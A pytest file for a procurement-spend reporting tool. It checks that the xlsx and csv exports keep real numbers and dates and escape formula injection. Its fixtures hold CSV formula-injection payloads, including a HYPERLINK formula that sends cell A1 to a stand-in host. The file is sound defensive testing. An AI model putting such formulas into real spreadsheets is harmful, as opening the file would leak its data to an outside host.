"""--format xlsx and --format csv: real numbers and dates, and no formula injection."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from tests.conftest import EXAMPLES, run_cli

EVIL = '=HYPERLINK("http://x.example/?"&A1,"Hikvision")'


@pytest.fixture
def evil_ledger(tmp_path):
    p = tmp_path / "evil.csv"
    p.write_text(
        "Posting Date,Vendor Name,Cost Center,Amount,Currency\n"
        "2024-01-05,HANGZHOU HIKVISION DIGITAL TECH CO LTD,=1+1,1000.00,USD\n"
        f'2024-01-06,"{EVIL.replace(chr(34), chr(34) * 2)}",CC-1,5.00,USD\n'
        "2024-01-07,@SUM(A1:A2),CC-1,oops,USD\n"
    )
    return p


def test_xlsx_sheets_numbers_dates_and_totals(tmp_path):
    out = tmp_path / "r.xlsx"
    res = run_cli(
        "report",
        str(EXAMPLES / "procurement-ledger.csv"),
        "--currency",
        "USD",
        "--fx",
        str(EXAMPLES / "fx-rates-usd.csv"),
        "-f",
        "xlsx",
        "-o",
        str(out),
    )
    assert res.returncode == 0, res.stderr
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["Summary", "Exposures", "Findings", "Unparsed rows", "Sources"]
    summary = {r[0].value: r[1].value for r in wb["Summary"].iter_rows(min_row=2) if r[0].value}
    f = wb["Findings"]
    head = [c.value for c in f[1]]
    spend = [r[head.index("Spend")].value for r in f.iter_rows(min_row=2)]
    assert all(isinstance(v, float | int) for v in spend if v is not None)
    # the total adds the unrounded amounts and rounds once: each line shown in cents may be
    # half a cent off, so the shown lines add up to the total within that
    per_line = 0.005 * (len(spend) + 1)
    assert summary["Exposed spend"] == pytest.approx(sum(v or 0 for v in spend), abs=per_line)
    e = wb["Exposures"]
    eh = [c.value for c in e[1]]
    assert summary["Exposed spend"] == pytest.approx(
        sum(r[eh.index("Spend")].value for r in e.iter_rows(min_row=2)), abs=0.01
    )
    assert f[2][head.index("Date")].is_date
    for ws in wb.worksheets:
        assert ws.freeze_panes == "A2" and ws.auto_filter.ref
    assert wb["Unparsed rows"]["C2"].value == "see attachment"


def test_xlsx_strings_are_never_formulas(tmp_path, evil_ledger):
    out = tmp_path / "r.xlsx"
    res = run_cli("report", str(evil_ledger), "--min-score", "0.5", "-f", "xlsx", "-o", str(out))
    assert res.returncode == 0, res.stderr
    wb = openpyxl.load_workbook(out)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
    values = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row}
    assert "oops" in values


def test_xlsx_needs_output_file(evil_ledger):
    res = run_cli("report", str(evil_ledger), "-f", "xlsx")
    assert res.returncode == 2 and "-o" in res.stderr


def test_csv_escapes_formula_cells(tmp_path):
    p = tmp_path / "evil.csv"
    p.write_text(
        "Posting Date,Vendor Name,Amount,Currency\n"
        "2024-01-05,=HIKVISION USA INC,-5.00,USD\n"
        "2024-01-06,+Huawei Technologies Co. Ltd.,7,USD\n"
    )
    res = run_cli("report", str(p), "-f", "csv")
    assert res.returncode == 0, res.stderr
    rows = list(csv.DictReader(io.StringIO(res.stdout)))
    assert rows, res.stdout
    for r in rows:
        for k, v in r.items():
            if k != "spend":
                assert not v.startswith(("=", "+", "-", "@")), (k, v)
    assert {r["value"] for r in rows} <= {"'=HIKVISION USA INC", "'+Huawei Technologies Co. Ltd."}
    assert any(r["spend"] == "-5.0" for r in rows)  # numbers stay numbers
